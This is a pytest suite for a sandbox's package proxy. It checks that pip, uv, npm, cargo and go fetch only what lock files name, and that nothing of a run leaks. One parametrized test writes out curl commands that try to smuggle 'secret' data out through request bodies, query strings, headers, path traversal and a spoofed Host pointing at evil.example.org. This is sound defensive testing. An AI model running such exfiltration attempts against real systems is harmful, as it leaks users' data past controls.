"""Packages fetched for a run: the real pip, uv, npm, cargo and go in a real shell zone; the registries are a fake."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import tarfile
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from pathlib import Path
from subprocess import DEVNULL
from typing import Any, Final

import h11
import msgspec
import pytest
import trio

from peer.projects import cached_packages, lock_files
from sandbox import frames
from sandbox.confinement import Root
from sandbox.confinement.bubblewrap import python, spawn
from sandbox.errors import SandboxError
from sandbox.network import of_run
from sandbox.network.packages import fetcher as fetcher_module
from sandbox.network.packages.fetcher import PackageFetcher, Registry
from sandbox.network.packages.wanted import CRATES_IO, Kind
from sandbox.network.usage import NetworkUsage
from sandbox.run import network, toolchains
from sandbox.run.folder import RunFolder
from tests.projects.caches import go_cache
from tests.sandbox.conftest import Done, Person, finish, viewed
from tests.sandbox.network.internet import ADDRESS, Internet, internet
from tests.sandbox.network.test_proxy import CA, shell

REGISTRIES: Final[dict[Kind, str]] = {
    "pip": "https://pypi.example.org/simple",
    "npm": "https://npm.example.org",
    "cargo": "https://index.example.org/crates",
    "go": "https://go.example.org",
}
NAMES = {name: [ADDRESS] for name in ("pypi", "npm", "index", "go", "files", "static", "evil")}
HOSTS = {f"{name}.example.org": addresses for name, addresses in NAMES.items()}


@cache
def wheel(name: str, version: str) -> bytes:
    """The same one each time: a zip file has the time in it, and a lock file its digest."""
    about = f"{name}-{version}.dist-info"
    files = {
        f"{name}.py": f"print('{name} {version} is here')\n",
        f"{about}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
        f"{about}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    digests = {place: hashlib.sha256(text.encode()).digest() for place, text in files.items()}
    rows = [
        f"{place},sha256={base64.urlsafe_b64encode(digest).decode().rstrip('=')},{len(files[place])}"
        for place, digest in digests.items()
    ]
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as file:
        for place, text in {**files, f"{about}/RECORD": "\n".join([*rows, f"{about}/RECORD,,", ""])}.items():
            file.writestr(place, text)
    return content.getvalue()


def write_crate(own: Path) -> None:
    """A crate whose test calls another one, `adder`."""
    (own / "src").mkdir(parents=True)
    (own / "Cargo.toml").write_text(
        '[package]\nname="shop"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nadder="1"\n'
    )
    (own / "src/lib.rs").write_text("#[test]\nfn adds() { assert_eq!(adder::add(1, 2), 3); }\n")


def packed(files: dict[str, str]) -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as file:
        for name, text in files.items():
            about = tarfile.TarInfo(name)
            about.size = len(text)
            file.addfile(about, io.BytesIO(text.encode()))
    return content.getvalue()


NPM = packed(
    {
        "package/package.json": '{"name":"left","version":"1.0.0"}',
        "package/index.js": "console.log('left is here')",
    }
)
CRATE = packed(
    {
        "adder-1.0.0/Cargo.toml": '[package]\nname="adder"\nversion="1.0.0"\nedition="2021"\n',
        "adder-1.0.0/src/lib.rs": "pub fn add(a: u32, b: u32) -> u32 { a + b }\n",
    }
)


async def registry(host: str, request: h11.Request) -> tuple[int, bytes]:
    """A fake of all registries, with three versions of each package."""
    path = request.target.decode()
    found: dict[str, bytes] = {
        "index.example.org/crates/config.json": b'{"dl":"https://static.example.org/crates"}',
        "index.example.org/crates/ad/de/adder": json.dumps(
            {
                **{"name": "adder", "vers": "1.0.0", "deps": [], "features": {}, "yanked": False},
                "cksum": hashlib.sha256(CRATE).hexdigest(),
            }
        ).encode(),
        "static.example.org/crates/adder/1.0.0/download": CRATE,
        "npm.example.org/left": json.dumps(
            {
                "name": "left",
                "dist-tags": {"latest": "1.0.0"},
                "versions": {
                    "1.0.0": {
                        "name": "left",
                        "version": "1.0.0",
                        "dist": {
                            "tarball": "https://npm.example.org/left/-/left-1.0.0.tgz",
                            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(NPM).digest()).decode(),
                        },
                    }
                },
            }
        ).encode(),
        "npm.example.org/left/-/left-1.0.0.tgz": NPM,
    }
    for name in ("here", "other"):
        files = [f"https://files.example.org/p/{name}-{version}-py3-none-any.whl" for version in ("1.0", "2.0")]
        links = [f'<a href="{file}">x</a>' for file in files]
        found[f"pypi.example.org/simple/{name}/"] = "\n".join(links).encode()
        for version in ("1.0", "2.0", "3.0"):
            found[f"files.example.org/p/{name}-{version}-py3-none-any.whl"] = wheel(name, version)
            found[f"evil.example.org/p/{name}-{version}-py3-none-any.whl"] = wheel(name, version)
    content = found.get(f"{host}{path}")
    return (404, b"") if content is None else (200, content)


def start_frame(wanted: dict[str, dict[str, list[str]]], **more: Any) -> frames.Start:
    registries = [frames.PackageRegistry(kind=kind, address=address) for kind, address in REGISTRIES.items()]
    given = frames.Network(registries=registries, packages=wanted, **more)
    return frames.Start(
        dispatch_id="1", attempt=1, sender="a@x", task="t", run_dir="/nowhere", tools=["Bash"], network=given
    )


async def fetched(
    person: Person,
    there: Internet,
    command: str,
    wanted: dict[str, dict[str, list[str]]] | None = None,
    *,
    runtime: Sequence[Path] = (),
    most_bytes: int = 50_000_000,
    made: list[PackageFetcher] | None = None,
    **more: Any,
) -> Done:
    """How a command ends for which packages are fetched. `runtime`: folders and programs that it sees besides."""
    start = start_frame(wanted or {}, **more)
    usage = NetworkUsage(most_bytes)
    fetcher = PackageFetcher(
        [Registry(each.kind, each.address) for each in start.network.registries],
        of_run.wanted(start.network),
        file_hosts=start.network.file_hosts,
        upstream=there.upstream(),
        usage=usage,
        tell=there.tell,
    )
    (made if made is not None else []).append(fetcher)
    proxy = there.proxy(packages=fetcher)
    (person.workspace / "own").mkdir(exist_ok=True)
    if settings := network.cargo_settings(start):
        place = person.workspace / network.CARGO_SETTINGS
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(settings)
    profile = replace(
        person.plain,
        network=True,
        variables=toolchains.seen(frames.Toolchains(), roots=(), programs=(), protected=()).variables,
        shell_variables=network.variables(start),
        files=proxy.files(),
        runtime=tuple(Root(path) for path in runtime),
    )
    with viewed(profile) as shown:
        words = ["/run/dispatch/shell", f"cd /dispatch/own && {command}"]
        process = await spawn(shown, words, shown.environment(), stdin=DEVNULL)
        async with trio.open_nursery() as nursery:
            await proxy.serve_in(nursery, process)
            done = await finish(process)
            nursery.cancel_scope.cancel()
    return done


def paths(there: Internet) -> list[str]:
    return [f"{host}{words.partition(' ')[2]}" for host, words in there.seen]


def told(there: Internet) -> list[str]:
    return [detail for status, detail in there.told if status == "network_refused"]


async def test_pip_installs_what_a_lock_file_names_and_nothing_else(person: Person) -> None:
    pip = f"{python()} -m pip install -q --no-deps --target ."
    async with internet(HOSTS, registry) as there:
        done = await fetched(person, there, f"{pip} here==1.0 && {python()} here.py", {"pip": {"here": ["1.0"]}})
        assert done.out == "here 1.0 is here\n", done
        assert paths(there) == [
            "pypi.example.org/simple/here/",
            "files.example.org/p/here-1.0-py3-none-any.whl",
        ]
        assert told(there) == []
        there.seen.clear()
        for package, said in (("here==2.0", "here 2.0"), ("other", "other")):
            done = await fetched(person, there, f"{pip} {package}", {"pip": {"here": ["1.0"]}})
            assert done.code != 0 and told(there)[-1] == f"the package {said} is not in the project's lock files"
        assert paths(there) == ["pypi.example.org/simple/here/"]  # one list; no name of another package left


async def test_pip_installs_any_package_where_that_is_granted(person: Person) -> None:
    pip = f"{python()} -m pip install -q --no-deps --target ."
    async with internet(HOSTS, registry) as there:
        done = await fetched(person, there, f"{pip} other && {python()} other.py", any_package=True)
    assert done.out == "other 2.0 is here\n", done


@pytest.mark.skipif(shutil.which("uv") is None, reason="this machine has no uv")
async def test_uv_syncs_by_its_lock_file_alone(person: Person) -> None:
    """With `--frozen` it asks for no list: the fetcher does, before it believes where a file is."""
    uv = Path(str(shutil.which("uv"))).resolve()
    hashed = hashlib.sha256(wheel("here", "1.0")).hexdigest()

    def lock(host: str) -> str:
        return (
            'version = 1\nrequires-python = ">=3.8"\n'
            '[[package]]\nname = "here"\nversion = "1.0"\nsource = { registry = "https://pypi.example.org/simple" }\n'
            f'wheels = [{{ url = "https://{host}/p/here-1.0-py3-none-any.whl", hash = "sha256:{hashed}" }}]\n'
            '[[package]]\nname = "shop"\nversion = "1"\nsource = { virtual = "." }\n'
            'dependencies = [{ name = "here" }]\n'
        )

    own = person.workspace / "own"
    own.mkdir()
    (own / "pyproject.toml").write_text(
        '[project]\nname="shop"\nversion="1"\nrequires-python=">=3.8"\ndependencies=["here"]\n'
    )
    command = f"{uv} sync --frozen -q --python {python()} && .venv/bin/python -m here"
    more: dict[str, Any] = {
        "wanted": {"pip": {"here": ["1.0"]}},
        "file_hosts": ["files.example.org", "evil.example.org"],
    }
    async with internet(HOSTS, registry) as there:
        (own / "uv.lock").write_text(lock("files.example.org"))
        done = await fetched(person, there, command, runtime=[uv], **more)
        assert done.out == "here 1.0 is here\n", done
        assert paths(there)[0] == "pypi.example.org/simple/here/"
        shutil.rmtree(own / ".venv")
        there.seen.clear()
        (own / "uv.lock").write_text(lock("evil.example.org"))
        done = await fetched(person, there, f"rm -rf $UV_CACHE_DIR; {command}", runtime=[uv], **more)
        assert done.code != 0 and not any(path.startswith("evil") for path in paths(there)), done


@pytest.mark.skipif(not Path("/usr/bin/npm").exists(), reason="this machine has no npm")
async def test_npm_installs_by_its_lock_file(person: Person) -> None:
    async with internet(HOSTS, registry) as there:
        wanted = {"npm": {"left": ["1.0.0"]}}
        done = await fetched(person, there, "npm install --silent left@1.0.0 && node node_modules/left", wanted)
        assert "left is here" in done.out, done
        assert set(paths(there)) == {"npm.example.org/left", "npm.example.org/left/-/left-1.0.0.tgz"}
        done = await fetched(person, there, "npm install --silent right")
        assert done.code != 0 and told(there) == ["the package right is not in the project's lock files"]


@pytest.mark.skipif(not Path("/usr/bin/npm").exists(), reason="this machine has no npm")
async def test_npm_installs_from_a_registry_that_a_project_names_where_its_host_is_granted(person: Person) -> None:
    """Its name in the project's file alone opens nothing."""
    (person.workspace / ".npmrc").write_text(f"registry=https://npm.example.org/\ncafile={CA}\n")
    (person.workspace / "package.json").write_text("{}")
    install = "npm_config_fetch_retries=0 npm install --silent left@1.0.0"
    command = f"cd /dispatch && {install} && node node_modules/left"
    async with internet(HOSTS, registry) as there:
        done = await shell(person, there.proxy("other.example.org"), there, command)
        assert done.code != 0 and there.seen == []
        done = await shell(person, there.proxy("npm.example.org"), there, command)
        assert "left is here" in done.out, done
    assert told(there) == ["“npm.example.org” is not granted to this run"]


RUST = next((Path.home() / ".rustup/toolchains").glob("*/bin/cargo"), None)


@pytest.mark.skipif(RUST is None, reason="this machine has no rustup")
async def test_cargo_fetches_by_its_lock_file(person: Person) -> None:
    assert RUST is not None
    write_crate(person.workspace / "own")
    command = f"PATH={RUST.parent}:$PATH cargo test -q"
    async with internet(HOSTS, registry) as there:
        done = await fetched(person, there, command, {"cargo": {"adder": ["1.0.0"]}}, runtime=[RUST.parents[1]])
        assert "1 passed" in done.out, done
        assert set(paths(there)) == {
            "index.example.org/crates/config.json",
            "index.example.org/crates/ad/de/adder",
            "static.example.org/crates/adder/1.0.0/download",
        }
        done = await fetched(person, there, f"rm -rf $CARGO_HOME/registry; {command}", {}, runtime=[RUST.parents[1]])
        assert done.code != 0 and told(there) == ["the package adder is not in the project's lock files"]


GO: Final = shutil.which("go")


@pytest.mark.skipif(GO is None, reason="this machine has no go")
async def test_go_downloads_what_go_sum_names_and_nothing_else(person: Person) -> None:
    """What go's own cache holds is what a module proxy answers (go.dev/ref/mod, "Module cache")."""
    go = Path(str(GO)).resolve()
    own, home = person.workspace / "own", person.base / "proxy"
    own.mkdir()
    files = {"go.mod": "module example.com/Ada/adder\n\ngo 1.19\n", "adder.go": "package adder\n\nconst Two = 2\n"}
    sums = [go_cache(home, "example.com/Ada/adder", version, files)[0] for version in ("v1.0.0", "v1.1.0")]
    mod = go_cache(home, "example.com/Ada/adder", "v1.0.0", files)[1].integrity
    (own / "go.mod").write_text("module shop\n\ngo 1.19\n\nrequire example.com/Ada/adder v1.0.0\n")
    (own / "go.sum").write_text(
        f"example.com/Ada/adder v1.0.0 {sums[0].integrity}\nexample.com/Ada/adder v1.0.0/go.mod {mod}\n"
    )
    (own / "main.go").write_text(
        'package main\n\nimport "example.com/Ada/adder"\n\nfunc main() { println(adder.Two) }\n'
    )
    wanted = lock_files.read([own]).packages
    assert wanted == {"go": {"example.com/Ada/adder": ["v1.0.0"]}}

    async def modules(host: str, request: h11.Request) -> tuple[int, bytes]:
        file = home / "go/pkg/mod/cache/download" / request.target.decode().lstrip("/")
        return (200, file.read_bytes()) if host == "go.example.org" and file.is_file() else (404, b"")

    runtime = [] if go.is_relative_to("/usr") else [go.parents[1]]
    async with internet(HOSTS, modules) as there:
        done = await fetched(person, there, f"{go} run .", wanted, runtime=runtime)
        assert done.code == 0 and done.err.endswith("\n2\n"), done
        place = "go.example.org/example.com/!ada/adder/@v/v1.0.0"
        assert {*paths(there)} <= {f"{place}.{ending}" for ending in ("info", "mod", "zip")}
        assert f"{place}.zip" in paths(there) and told(there) == []
        there.seen.clear()
        for module, said in (("Ada/adder@v1.1.0", "Ada/adder v1.1.0"), ("Ada/other@latest", "Ada/other")):
            done = await fetched(person, there, f"{go} get example.com/{module}", wanted, runtime=runtime)
            assert done.code != 0, done
            assert f"the package example.com/{said} is not in the project's lock files" in told(there)
        assert [path for path in paths(there) if "v1.1.0" in path or "other" in path] == []


@pytest.mark.parametrize(
    ("ask", "status"),
    [
        ("-X PUT --data secret https://npm.example.org/left", 405),
        ("-X POST --data secret https://pypi.example.org/legacy/", 405),
        ("-X GET --data secret https://npm.example.org/left", 413),
        ("-X GET -H 'Transfer-Encoding: chunked' --data secret https://npm.example.org/left", 413),
        ("'https://npm.example.org/left?secret'", 403),
        ("https://npm.example.org/-/whoami", 403),
        ("https://pypi.example.org/secret", 403),
        ("https://pypi.example.org/simple/secret/", 403),
        ("-H 'Host: evil.example.org' https://npm.example.org/left", 421),
        ("--path-as-is https://go.example.org/a.b/../secret/@latest", 403),
        ("https://files.example.org/p/here-1.0-py3-none-any.whl", 200),
        ("https://files.example.org/p/here-3.0-py3-none-any.whl", 403),  # which no list names
        ("https://files.example.org/secret", 403),
        ("https://evil.example.org/p/here-1.0-py3-none-any.whl", 403),
        ("-I https://npm.example.org/left", 200),
    ],
)
async def test_nothing_of_the_runs_own_leaves(person: Person, ask: str, status: int) -> None:
    wanted = {"npm": {"left": ["1.0.0"]}, "pip": {"here": ["1.0", "3.0"]}, "go": {"a.b/c": ["v1.0.0"]}}
    command = (
        "curl -sS -o answer -w '%{http_code}' -A secret-agent -u me:secret -b secret=1 -H 'Accept: secret' "
        f"-H 'X-Secret: secret' -e https://secret.example.org {ask}"
    )
    async with internet(HOSTS, registry) as there:
        hosts = ["files.example.org", "evil.example.org"]
        done = await fetched(person, there, command, wanted, file_hosts=hosts)
    assert done.out == str(status), done
    assert not any("secret" in path or path.startswith("evil") for path in paths(there))
    assert not any(b"secret" in value for headers in there.headers for value in headers.values())
    assert {name for headers in there.headers for name in headers} <= {
        b"host",
        b"accept",
        b"accept-encoding",
        b"user-agent",
    }


async def test_a_host_that_no_lock_file_and_no_list_names_is_not_answered_for(person: Person) -> None:
    async with internet(HOSTS, registry) as there:
        done = await fetched(person, there, "curl -sSv https://evil.example.org/p/here-1.0-py3-none-any.whl")
    assert "403" in done.err and there.seen == []
    assert told(there) == ["“evil.example.org” is not granted to this run"]


async def test_private_addresses_and_redirects_are_no_way_round(person: Person) -> None:
    async def answer(host: str, request: h11.Request) -> tuple[int, bytes]:
        return 302, b""

    async with internet({"npm.example.org": ["10.0.0.7"]}, answer) as there:
        command = "curl -sS -w '%{http_code}' https://npm.example.org/left"
        done = await fetched(person, there, command, {"npm": {"left": ["1.0.0"]}})
        assert "no public internet address" in done.out and done.out.endswith("502") and there.dialled == [], done
        assert [status for status, _ in there.told] == ["network_host", "network_failed"]
    async with internet(HOSTS, answer) as there:
        done = await fetched(person, there, command, {"npm": {"left": ["1.0.0"]}})
        assert done.out.endswith("502"), done


async def test_the_budget_of_bytes_holds_for_packages(person: Person) -> None:
    async def large(host: str, request: h11.Request) -> tuple[int, bytes]:
        return 200, b"x" * 3_000_000

    async with internet(HOSTS, large) as there:
        command = (
            "curl -sS https://npm.example.org/left | wc -c; curl -s -w '%{http_code}' https://npm.example.org/left"
        )
        done = await fetched(person, there, command, {"npm": {"left": ["1.0.0"]}}, most_bytes=1_000_000)
    assert int(done.out.split()[0]) < 1_000_000 and done.out.endswith("403"), done
    assert ("network_used_up", "the run's budget of bytes over the network is used up") in there.told


@pytest.mark.long
async def test_what_is_learned_of_registries_is_bounded(person: Person) -> None:
    """A registry whose every list names another thousand hosts."""

    async def many(host: str, request: h11.Request) -> tuple[int, bytes]:
        name = request.target.decode().split("/")[2]
        return 200, "".join(
            f'<a href="https://h{n}.{name}.example.org/{name}-1-py3-none-any.whl"></a>' for n in range(1_000)
        ).encode()

    packages = [f"p{number}" for number in range(fetcher_module.LISTS_KEPT + 10)]
    command = f"for name in {' '.join(packages)}; do curl -sS -o x https://pypi.example.org/simple/$name/; done"
    made: list[PackageFetcher] = []
    async with internet(HOSTS, many) as there:
        await fetched(person, there, command, {"pip": {name: ["1"] for name in packages}}, made=made)
    assert len(there.seen) == len(packages)
    (fetcher,) = made
    assert len(fetcher._hosts) == fetcher_module.HOSTS
    assert len(fetcher._files_of) == fetcher_module.LISTS_KEPT


@pytest.mark.parametrize(
    "target",
    [
        *("/left?secret", "/left#secret", "/left\\secret", "/a/../secret", "left", "https://npm.example.org/left"),
        "/" * (fetcher_module.MOST_OF_A_PATH + 1),
    ],
)
def test_no_path_carries_more_than_names(target: str) -> None:
    """Also where the grammar of a registry would not have it."""
    request = h11.Request(method="GET", target=target, headers=[("host", "npm.example.org")])
    with pytest.raises(fetcher_module._Refused) as refused:
        fetcher_module._checked_path("npm.example.org", request)
    assert refused.value.status == 403


async def offline(person: Person, command: str, *, runtime: Sequence[Path] = ()) -> Done:
    """How a command ends that reaches nothing, with what is in the run's caches."""
    profile = replace(
        person.plain,
        variables=toolchains.seen(frames.Toolchains(), roots=(), programs=(), protected=()).variables,
        shell_variables=network.OFFLINE,
        runtime=tuple(Root(path) for path in runtime),
    )
    with viewed(profile) as shown:
        words = ["/run/dispatch/shell", f"cd /dispatch/own && {command}"]
        return await finish(await spawn(shown, words, shown.environment(), stdin=DEVNULL))


def seeded(person: Person) -> list[str]:
    """Make the run's caches anew, out of the person's; return what is in them."""
    shutil.rmtree(person.workspace / ".cache", ignore_errors=True)
    packages = lock_files.read([person.workspace / "own"]).entries
    found = cached_packages.seeds(packages, {"HOME": str(person.base / "home")})
    RunFolder(person.workspace.parent).seed(found)
    return [seed.place for seed in found]


@pytest.mark.skipif(RUST is None, reason="this machine has no rustup")
async def test_a_crate_that_is_in_the_persons_cache_needs_no_network(
    person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The cache is as cargo itself makes it; what it speaks with is a fake of the public registry."""
    assert RUST is not None
    monkeypatch.setitem(REGISTRIES, "cargo", CRATES_IO)
    own = person.workspace / "own"
    write_crate(own)
    command = f"PATH={RUST.parent}:$PATH cargo test -q"
    names = {"index.crates.io": [ADDRESS], "static.example.org": [ADDRESS]}

    async def public(host: str, request: h11.Request) -> tuple[int, bytes]:
        return await registry(host.replace("index.crates.io", "index.example.org/crates"), request)

    async with internet(names, public) as there:
        done = await fetched(person, there, command, {"cargo": {"adder": ["1.0.0"]}}, runtime=[RUST.parents[1]])
    assert "1 passed" in done.out, done
    shutil.copytree(person.workspace / ".cache/cargo", person.base / "home/.cargo")
    shutil.rmtree(own / "target")
    shutil.rmtree(person.workspace / ".cache")
    assert (await offline(person, command, runtime=[RUST.parents[1]])).code != 0
    places = seeded(person)
    assert len(places) == 3 and all(place.startswith("cargo/registry/") for place in places)
    done = await offline(person, command, runtime=[RUST.parents[1]])
    assert "1 passed" in done.out, done
    # What Cargo.lock does not name as the public registry's is not given, whatever the cache has.
    lock = own / "Cargo.lock"
    lock.write_text(lock.read_text().replace("github.com/rust-lang", "git.example.org/private"))
    assert seeded(person) == []


@pytest.mark.skipif(not Path("/usr/bin/npm").exists(), reason="this machine has no npm")
async def test_a_package_of_npm_that_is_in_the_persons_cache_needs_no_network(
    person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As with cargo."""
    monkeypatch.setitem(REGISTRIES, "npm", "https://registry.npmjs.org")
    own = person.workspace / "own"

    async def public(host: str, request: h11.Request) -> tuple[int, bytes]:
        status, body = await registry("npm.example.org", request)
        return status, body.replace(b"npm.example.org", b"registry.npmjs.org")

    async with internet({"registry.npmjs.org": [ADDRESS]}, public) as there:
        wanted = {"npm": {"left": ["1.0.0"]}}
        done = await fetched(person, there, "npm install --silent left@1.0.0", wanted)
    assert (own / "node_modules/left").exists(), done
    shutil.copytree(person.workspace / ".cache/npm", person.base / "home/.npm")
    for folder in (own / "node_modules", person.workspace / ".cache"):
        shutil.rmtree(folder)
    command = "npm ci --silent && node node_modules/left"
    assert (await offline(person, command)).code != 0
    assert len(seeded(person)) == 2
    done = await offline(person, command)
    assert "left is here" in done.out, done
    lock = own / "package-lock.json"
    lock.write_text(lock.read_text().replace("registry.npmjs.org", "npm.example.org"))
    assert seeded(person) == []


def test_seeds_lie_in_the_runs_caches_and_nowhere_else(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "file")
    folder = RunFolder(tmp_path / "run")
    for place in ("../out", "/etc/x", "a/../../x"):
        with pytest.raises(SandboxError):
            folder.seed([frames.Seed(path=str(tmp_path / "file"), place=place)])
    (tmp_path / "tool").write_text("x")
    (tmp_path / "tool").chmod(0o755)
    gone = [frames.Seed(path=str(tmp_path / name), place=f"a/{name}") for name in ("link", "absent", "file", "tool")]
    folder.seed(gone)
    found = {path.name: path.stat().st_mode & 0o777 for path in (folder.workspace / ".cache/a").iterdir()}
    assert sorted(found) == ["file", "tool"] and found["tool"] == 0o700 and not found["file"] & 0o111


def test_without_shells_there_is_nothing_to_reach() -> None:
    frame = start_frame({})
    assert network.granted(frame) and not network.granted(msgspec.structs.replace(frame, tools=["Read", "Write"]))
